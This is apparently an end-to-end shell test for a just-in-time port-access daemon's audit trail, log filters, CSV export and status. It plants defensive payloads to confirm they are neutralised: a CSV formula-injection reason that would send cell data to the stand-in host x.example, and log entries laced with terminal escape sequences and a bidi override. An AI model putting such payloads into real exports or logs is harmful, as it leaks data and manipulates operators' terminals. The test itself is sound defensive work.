# The audit trail: every decision of the test is one JSON line in state_dir/audit.jsonl, and
# `jitctl log` gives it back filtered (time, grant, user, kind of event), as JSON and as CSV
# that a real CSV parser reads. Per-port activity in `jitctl status` (grants in 7 days, last
# access, last user) survives a restart. Each record is copied to syslog unless audit.syslog
# is false (test builds: towards a socket of the test's own).
. "$(dirname "$0")/lib.sh"

# Test builds: while this file exists, a log query waits on its thread (jitd-log).
export JITD_TEST_LOG_HOLD_FILE=$TMP/log-hold
e2e_default_setup drop

# A reason a spreadsheet would run as a formula: the CSV export defuses it.
formula='=HYPERLINK("http://x.example/?"&A2,"INC-1")'
sign --src 192.0.2.2 --port 22 --for 3 --jti au-short --sub alice --reason "$formula" | submit - \
	>/dev/null || fail "au-short refused"
sign --src 192.0.2.3 --port 22 --for 120 --jti au-long --sub 'bob, "the admin"' --reason 'INC-7, "urgent"' | submit - >/dev/null || fail "au-long refused"
rc=0
sign --src 192.0.2.2 --port 2222 --for 60 --jti au-bad | submit - >/dev/null 2>&1 || rc=$?
[ "$rc" -eq 1 ] || fail "au-bad was not refused"
"$JITCTL_BIN" -s "$SOCK" revoke au-long >/dev/null || fail "revoke failed"
wait_until 15 "au-short to expire" status_has_no_grants
wait_until 5 "grant.expired to be audited" \
	bash -c "'$JITCTL_BIN' -s '$SOCK' log --grant au-short --json | jq -e 'map(.event) | index(\"grant.expired\")'"

log "the file itself"
file="$TMP/state/audit.jsonl"
[ "$(stat -c %a "$file")" = 640 ] || fail "audit.jsonl mode $(stat -c %a "$file")"
jq -e . "$file" >/dev/null || fail "audit.jsonl holds a line that is not JSON"
events=$(jq -r .event "$file" | sort | uniq -c | awk '{print $2 "=" $1}' | tr '\n' ' ')
for want in config.loaded=1 agent.started=1 grant.applied=2 grant.refused=1 grant.revoked=1 grant.expired=1; do
	case " $events" in *" $want "*) ;; *) fail "audit events: want $want, have: $events" ;; esac
done
pass "audit.jsonl (0640): $events"
# -s: jq -e judges only the last input's result, and most lines are other events.
jq -s -e 'any(.[]; .event == "grant.refused" and .code == "port_not_protected" and .grant == "au-bad")' "$file" >/dev/null ||
	fail "the refusal is not recorded with its code and grant id: $(grep refused "$file")"
jq -s -e 'any(.[]; .event == "grant.applied" and .grant == "au-long"
	and .sub == "bob, \"the admin\"" and .sources == ["192.0.2.3"] and .ports == ["22/tcp"] and (.peer | test("uid=0")))' \
	"$file" >/dev/null || fail "grant.applied lacks fields: $(grep au-long "$file" | head -n1)"
pass "records carry code, grant, sub, sources, ports and peer"

log "jitctl log"
"$JITCTL_BIN" -s "$SOCK" log --json >"$TMP/all.json" || fail "jitctl log --json failed"
[ "$(jq length "$TMP/all.json")" -eq "$(grep -c . "$file")" ] || fail "log --json does not return every event"
"$JITCTL_BIN" -s "$SOCK" log --grant au-long --json | jq -e 'length == 2 and all(.grant == "au-long")' >/dev/null ||
	fail "--grant does not filter"
"$JITCTL_BIN" -s "$SOCK" log --since 1h --json | jq -e "length == $(jq length "$TMP/all.json")" >/dev/null ||
	fail "--since 1h lost events"
"$JITCTL_BIN" -s "$SOCK" log --since 2099-01-01 --json | jq -e 'length == 0' >/dev/null || fail "--since in the future returned events"
# Before 1970 is the whole trail (not a usage error).
for since in 7d 30m 3600s PT1H 30000d 1969-12-31; do
	"$JITCTL_BIN" -s "$SOCK" log --since "$since" --json |
		jq -e "length == $(jq length "$TMP/all.json")" >/dev/null || fail "--since $since lost events"
done
"$JITCTL_BIN" -s "$SOCK" log --since 2099-01-01T00:00:00Z --json | jq -e 'length == 0' >/dev/null ||
	fail "--since a future time returned events"
# Not a date the calendar has, a two-digit year, a sign or a space: usage errors, not another
# moment (strptime and timegm took 2025-02-31, 2023-02-29 and 24-06-01, strtoull the sign and
# the space; yesterday and hour 24 were refused before, and stay so).
for since in yesterday 2025-02-31 2023-02-29 24-06-01 2025-06-01T24:00:00Z " 7d" +7d -0d; do
	rc=0
	"$JITCTL_BIN" -s "$SOCK" log --since "$since" >/dev/null 2>"$TMP/err" || rc=$?
	[ "$rc" -eq 2 ] && grep -q "is not 7d, 24h, 30m" "$TMP/err" ||
		fail "--since '$since': exit $rc, $(cat "$TMP/err")"
done
"$JITCTL_BIN" -s "$SOCK" log --since 2024-02-29 --json >/dev/null || fail "--since 2024-02-29"
rc=0
"$JITCTL_BIN" -s "$SOCK" log --since P400D >/dev/null 2>"$TMP/err" || rc=$?
[ "$rc" -eq 2 ] && grep -q "P366D); say 400d" "$TMP/err" ||
	fail "--since P400D: exit $rc, $(cat "$TMP/err")"
pass "--json returns every event; --grant and --since (days, minutes, seconds, ISO 8601, dates) filter"
# --user and --event, alone and together with the others, against the file itself.
want=$(jq -s -c '[.[] | select(.sub == "bob, \"the admin\"") | .grant + " " + .event]' "$file")
got=$("$JITCTL_BIN" -s "$SOCK" log --user 'bob, "the admin"' --json | jq -c 'map(.grant + " " + .event)')
[ "$got" = "$want" ] && [ "$got" != "[]" ] || fail "--user: $got, the file's: $want"
"$JITCTL_BIN" -s "$SOCK" log --user bob --json | jq -e 'length == 0' >/dev/null ||
	fail "--user matched part of a name"
"$JITCTL_BIN" -s "$SOCK" log --event grant.refused --json |
	jq -e 'length == 1 and .[0].grant == "au-bad" and .[0].code == "port_not_protected"' >/dev/null ||
	fail "--event grant.refused: $("$JITCTL_BIN" -s "$SOCK" log --event grant.refused --json)"
"$JITCTL_BIN" -s "$SOCK" log --event grant.applied --user alice --since 1h --json |
	jq -e 'length == 1 and .[0].grant == "au-short"' >/dev/null || fail "--event with --user and --since"
"$JITCTL_BIN" -s "$SOCK" log --event grant.revoked --grant au-short --json | jq -e 'length == 0' \
	>/dev/null || fail "--event and --grant do not combine"
rc=0
"$JITCTL_BIN" -s "$SOCK" log --event grant.aplied >/dev/null 2>"$TMP/err" || rc=$?
[ "$rc" -eq 2 ] && grep -q "is not an event name" "$TMP/err" ||
	fail "--event grant.aplied: exit $rc, $(cat "$TMP/err")"
pass "--user (exactly) and --event filter, combined with each other and --since and --grant"
# --limit: the newest N of what the filters let through, oldest first, and no note of a cut;
# `jitctl audit` is the same command.
"$JITCTL_BIN" -s "$SOCK" log --limit 2 --json 2>"$TMP/err" | jq -c . >"$TMP/lim.json" &&
	[ "$(cat "$TMP/lim.json")" = "$(jq -c '.[-2:]' "$TMP/all.json")" ] && [ ! -s "$TMP/err" ] ||
	fail "--limit 2: $(cat "$TMP/lim.json" "$TMP/err")"
"$JITCTL_BIN" -s "$SOCK" audit --event grant.applied --limit 1 --json | jq -c . >"$TMP/lim.json" &&
	[ "$(cat "$TMP/lim.json")" = "$(jq -c '[.[] | select(.event == "grant.applied")][-1:]' \
		"$TMP/all.json")" ] && jq -e 'length == 1' "$TMP/lim.json" >/dev/null ||
	fail "audit --event grant.applied --limit 1: $(cat "$TMP/lim.json")"
"$JITCTL_BIN" -s "$SOCK" log --limit 50000 --json | jq -e "length == $(jq length "$TMP/all.json")" \
	>/dev/null || fail "--limit 50000 lost events"
for limit in 0 50001 -1 " 2" 2x; do
	rc=0
	"$JITCTL_BIN" -s "$SOCK" log --limit "$limit" >/dev/null 2>"$TMP/err" || rc=$?
	[ "$rc" -eq 2 ] && grep -q "is not a number from 1 to 50000" "$TMP/err" ||
		fail "--limit '$limit': exit $rc, $(cat "$TMP/err")"
done
rc=0
"$JITCTL_BIN" -s "$SOCK" log --limit 5 --limit '' >/dev/null 2>"$TMP/err" || rc=$?
[ "$rc" -eq 2 ] && grep -q "is not a number from 1 to 50000" "$TMP/err" ||
	fail "--limit 5 --limit '': exit $rc, $(cat "$TMP/err")"
pass "--limit keeps the newest events the filters let through; 'jitctl audit' is 'jitctl log'"
# The table an operator reads: a header, then one line per event with its code and peer.
"$JITCTL_BIN" -s "$SOCK" log >"$TMP/log.txt" || fail "jitctl log failed"
[ "$(wc -l <"$TMP/log.txt")" -eq $(($(jq length "$TMP/all.json") + 1)) ] &&
	head -n 1 "$TMP/log.txt" | grep -qE '^TIME +EVENT +GRANT +USER +SOURCES +PORTS +DETAIL$' &&
	grep -E ' grant.refused +au-bad ' "$TMP/log.txt" | grep -q 'port_not_protected: .*; uid=0' &&
	grep -qE ' grant.applied +au-long +bob, "the ' "$TMP/log.txt" ||
	fail "jitctl log table: $(cat "$TMP/log.txt")"
pass "the table: a header and one line per event, with code, message and peer"
"$JITCTL_BIN" -s "$SOCK" log --csv >"$TMP/log.csv" || fail "jitctl log --csv failed"
python3 - "$TMP/log.csv" "$TMP/all.json" "$formula" <<'PY' || fail "CSV check failed"
import csv, json, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
events = json.load(open(sys.argv[2]))
header = rows[0]
assert header[:2] == ["time", "event"], header
body = [dict(zip(header, r)) for r in rows[1:]]
assert len(body) == len(events), (len(body), len(events))
for row, ev in zip(body, events):
    assert row["event"] == ev["event"] and row["time"] == ev["time"], (row, ev)
long = [r for r in body if r["grant"] == "au-long" and r["event"] == "grant.applied"][0]
assert long["sub"] == 'bob, "the admin"', long["sub"]
assert long["reason"] == 'INC-7, "urgent"', repr(long["reason"])
short = [r for r in body if r["grant"] == "au-short" and r["event"] == "grant.applied"][0]
assert short["reason"] == "'" + sys.argv[3], repr(short["reason"])
PY
pass "--csv parses with Python's csv module: one row per event, commas and quotes intact, a formula defused"

log "per-port activity, before and after a restart"
check_activity() {
	status_json | jq -e '.ports[] | select(.port == 22) | .grants_7d == 2 and .last_user == "bob, \"the admin\"" and (.last_access | type) == "string"' >/dev/null ||
		fail "$1: port 22 activity: $(status_json | jq -c '.ports[] | select(.port == 22)')"
	pass "$1: port 22 shows 2 grants in 7 days, last user bob"
}
check_activity "live"
stop_jitd TERM
start_jitd
check_activity "after a restart"
# A port last granted 10 days ago: none in 7 days, but its last access and user are still
# known after a restart (a record the trail holds from then, added while jitd is stopped).
stop_jitd TERM
old=$(($(date +%s) - 10 * 86400))
old_time=$(date -u -d "@$old" +%Y-%m-%dT%H:%M:%SZ)
printf '{"ts":%d,"time":"%s","event":"grant.applied","grant":"au-old","sub":"carol",%s}\n' \
	"$old" "$old_time" '"sources":["192.0.2.9"],"ports":["3389/tcp"]' >>"$file"
# And one with terminal escapes (C0, C1's CSI) and a bidi override, which jitd never writes:
# the table and the CSV show each of their bytes as '?'.
printf '{"ts":%d,"time":"%s","event":"%s","grant":"au-esc","sub":"%s",%s}\n' "$old" \
	'\u001b]0;t\u0007' '\u009b2J' 'e\u001b]2;x\u0007\u202e' \
	'"code":"malformed","message":"\u001b[2J"' >>"$file"
start_jitd
# unsafe FILE: it holds a control character (but CR and LF) or U+202E.
unsafe() {
	LC_ALL=C grep -qP '[\x00-\x09\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae' "$1"
}
"$JITCTL_BIN" -s "$SOCK" log --grant au-esc >"$TMP/esc.txt" ||
	fail "jitctl log --grant au-esc failed"
grep -qF '?]0;t? ' "$TMP/esc.txt" && grep -qF ' ??2J ' "$TMP/esc.txt" &&
	grep -qF ' e?]2;x???? ' "$TMP/esc.txt" && grep -qF 'malformed: ?[2J' "$TMP/esc.txt" &&
	! unsafe "$TMP/esc.txt" || fail "escapes in the table: $(cat -v "$TMP/esc.txt")"
"$JITCTL_BIN" -s "$SOCK" log --grant au-esc --csv >"$TMP/esc.csv" ||
	fail "jitctl log --grant au-esc --csv failed"
grep -qF 'e?]2;x????' "$TMP/esc.csv" && ! unsafe "$TMP/esc.csv" ||
	fail "escapes in the CSV: $(cat -v "$TMP/esc.csv")"
pass "the table and the CSV show what a hand put in the trail that a claim may not hold as '?'"
status_json | jq -e --arg t "$old_time" '.ports[] | select(.port == 3389) |
	.grants_7d == 0 and .last_user == "carol" and .last_access == $t' >/dev/null ||
	fail "port 3389 after a restart: $(status_json | jq -c '.ports[] | select(.port == 3389)')"
pass "after a restart, a port last granted 10 days ago: 0 in 7 days, last access and user kept"
jq -s -e 'any(.[]; .event == "agent.stopped")' "$file" >/dev/null || fail "agent.stopped not audited"
pass "agent.stopped audited"

log "recent activity from a trail jitd did not write, or cannot read"
# A hand's grant.applied lines: one whose sub holds what a terminal acts on (ESC, BEL, U+202E),
# the newest for 3389, and one whose sub is longer than any grant's (257 bytes, a character
# across the cut), the newest for 22. Status shows the first as '?'s, the second as "?", and
# neither breaks the status's JSON (a cut character did: every status failed).
stop_jitd TERM
now=$(date +%s)
printf '{"ts":%d,"time":"%s","event":"grant.applied","grant":"au-hand1","sub":"%s",%s}\n' \
	"$((old + 60))" "$(date -u -d "@$((old + 60))" +%Y-%m-%dT%H:%M:%SZ)" \
	'd\u001b]0;x\u0007\u202e' '"sources":["192.0.2.9"],"ports":["3389/tcp"]' >>"$file"
printf '{"ts":%d,"time":"%s","event":"grant.applied","grant":"au-hand2","sub":"%s",%s}\n' \
	"$now" "$(date -u -d "@$now" +%Y-%m-%dT%H:%M:%SZ)" "$(printf 'a%.0s' {1..255})\u00e9" \
	'"sources":["192.0.2.9"],"ports":["22/tcp"]' >>"$file"
start_jitd
status_json >"$TMP/status.json" || fail "status after the hand's lines: $(cat "$TMP/status.json")"
jq -e '(.ports[] | select(.port == 3389) | .last_user == "d?]0;x????") and
	(.ports[] | select(.port == 22) | .last_user == "?")' "$TMP/status.json" >/dev/null ||
	fail "last users from the hand's lines: $(jq -c '[.ports[] | {port, last_user}]' \
	"$TMP/status.json")"
"$JITCTL_BIN" -s "$SOCK" status >"$TMP/status.txt" || fail "jitctl status failed"
! unsafe "$TMP/status.txt" || fail "escapes in jitctl status: $(cat -v "$TMP/status.txt")"
pass "a trail's sub jitd could not have written: '?'s in status, and the status whole"
# A rotated file the start cannot read (mode 0, and jitd without DAC override, as the unit runs
# it): the week before is not known, so grants_7d is null, not a count of what came since.
stop_jitd TERM
mv "$file" "$file.1"
chmod 0 "$file.1"
lines=$(wc -l <"$TMP/jitd.log")
start_jitd "${NODAC[@]}"
tail -n +"$((lines + 1))" "$TMP/jitd.log" | grep -qF "cannot read the audit trail: Permission \
denied; recent activity starts from now" || fail "the unreadable trail is not said: $(tail -n \
+"$((lines + 1))" "$TMP/jitd.log")"
status_json | jq -e '[.ports[] | .grants_7d == null] | all' >/dev/null ||
	fail "grants_7d with the trail unreadable: $(status_json | jq -c '[.ports[] | {port,
	grants_7d}]')"
pass "a trail the start cannot read: grants_7d null on every port, not 0"
stop_jitd TERM
chmod 0640 "$file.1"
start_jitd

if [ "${JITD_TEST_HOOKS:-0}" = 1 ]; then
	log "the copy to syslog: on unless audit.syslog is false"
	syslog_standin
	stop_jitd TERM
	config_edit 'del(.audit.syslog)'
	start_jitd
	sign --src 192.0.2.5 --port 22 --for 60 --jti au-syslog --sub carol | submit - >/dev/null ||
		fail "au-syslog refused"
	syslog_read_up_to mark-1
	# authpriv.info (<86>), a syslog(3) timestamp, jitd's pid, then the trail's own line.
	want='^<86>[A-Z][a-z]{2} [ 1-3][0-9] [0-9]{2}:[0-9]{2}:[0-9]{2} jitd\['"$JITD_PID"'\]: '
	want+='audit \{.*"event":"grant\.applied".*"grant":"au-syslog"'
	grep -qE "$want" "$TMP/syslog.txt" ||
		fail "grant.applied not copied to syslog: $(cat "$TMP/syslog.txt")"
	pass "by default each record is copied to syslog (authpriv): grant.applied as in the trail"
	stop_jitd TERM
	# Its agent.stopped read before the file is emptied, not after.
	syslog_read_up_to mark-stopped
	config_edit '.audit.syslog = false'
	: >"$TMP/syslog.txt"
	start_jitd
	sign --src 192.0.2.5 --port 22 --for 60 --jti au-nosyslog | submit - >/dev/null ||
		fail "au-nosyslog refused"
	stop_jitd TERM
	syslog_read_up_to mark-2
	[ "$(cat "$TMP/syslog.txt")" = mark-2 ] ||
		fail "copied to syslog with audit.syslog false: $(cat "$TMP/syslog.txt")"
	jq -s -e 'any(.[]; .grant == "au-nosyslog")' "$file" >/dev/null ||
		fail "au-nosyslog is not in the trail: $(tail -n 3 "$file")"
	pass "with audit.syslog false nothing is copied (a start, a grant, a stop); the trail whole"
	start_jitd
fi

log_threads() { grep -lx jitd-log /proc/"$JITD_PID"/task/*/comm 2>/dev/null | grep -c . || true; }
log_threads_are() { [ "$(log_threads)" -eq "$1" ]; }
if [ "${JITD_TEST_HOOKS:-0}" = 1 ]; then
	log "a log query reads on a thread of its own: grants are applied meanwhile"
	touch "$JITD_TEST_LOG_HOLD_FILE"
	"$JITCTL_BIN" -s "$SOCK" log --json >"$TMP/held1.json" 2>"$TMP/held1.err" &
	held1=$!
	BG_PIDS+=("$held1")
	wait_until 10 "the first log query's thread" log_threads_are 1
	"$JITCTL_BIN" -s "$SOCK" log --json >/dev/null 2>&1 &
	held2=$!
	BG_PIDS+=("$held2")
	wait_until 10 "the second log query's thread" log_threads_are 2
	sign --src 192.0.2.4 --port 22 --for 120 --jti au-during | submit - >/dev/null ||
		fail "a grant during the log queries was refused"
	has_elem allow4_addr "192.0.2.4 tcp 22" || fail "the grant is not in the kernel: $(host_elems)"
	kill -0 "$held1" 2>/dev/null || fail "the first log query ended before it was let go"
	pass "a grant is applied while two log queries read"
	kill -KILL "$held2"
	wait "$held2" 2>/dev/null || true
	rm -f "$JITD_TEST_LOG_HOLD_FILE"
	wait "$held1" || fail "the held log query failed: $(cat "$TMP/held1.err")"
	jq -e 'length > 0 and all(.[]; .grant != "au-during")' "$TMP/held1.json" >/dev/null ||
		fail "the held query's events: $(head -c 300 "$TMP/held1.json")"
	pass "the held query answers with the trail as it was when it began"
	wait_until 10 "the log threads to end" log_threads_are 0
	"$JITCTL_BIN" -s "$SOCK" log --grant au-during --json | jq -e 'length == 1' >/dev/null ||
		fail "a log query after: $("$JITCTL_BIN" -s "$SOCK" log --grant au-during --json)"
	pass "a client gone during its query leaves nothing behind; the next query answers"
	# A round of its own (each client has 10 s from its connection): root's, all three run
	# (the third is the one kept for root), a fourth is busy.
	touch "$JITD_TEST_LOG_HOLD_FILE"
	held=()
	for i in 1 2 3; do
		"$JITCTL_BIN" -s "$SOCK" log --json >/dev/null 2>&1 &
		held+=($!)
		BG_PIDS+=($!)
		wait_until 10 "log query $i's thread" log_threads_are "$i"
	done
	rc=0
	"$JITCTL_BIN" -s "$SOCK" log --json >"$TMP/busy.json" 2>&1 || rc=$?
	[ "$rc" -eq 1 ] && jq -e '.error == "busy"' "$TMP/busy.json" >/dev/null ||
		fail "a fourth log query: exit $rc, $(cat "$TMP/busy.json")"
	rm -f "$JITD_TEST_LOG_HOLD_FILE"
	for p in "${held[@]}"; do
		wait "$p" || fail "a held log query of root's failed"
	done
	pass "three log queries of root's at once run (the third kept for root); a fourth: busy"
	wait_until 10 "the log threads to end" log_threads_are 0
	touch "$JITD_TEST_LOG_HOLD_FILE"
	"$JITCTL_BIN" -s "$SOCK" log --json >/dev/null 2>&1 &
	held3=$!
	BG_PIDS+=("$held3")
	wait_until 10 "a held log query's thread" log_threads_are 1
	stop_jitd TERM
	rc=0
	wait "$held3" || rc=$?
	[ "$rc" -eq 3 ] || fail "a log query cut off by the agent's stop: exit $rc, want 3"
	pass "a stop during a log query: the agent waits for it and exits cleanly; its client gets 3"
fi
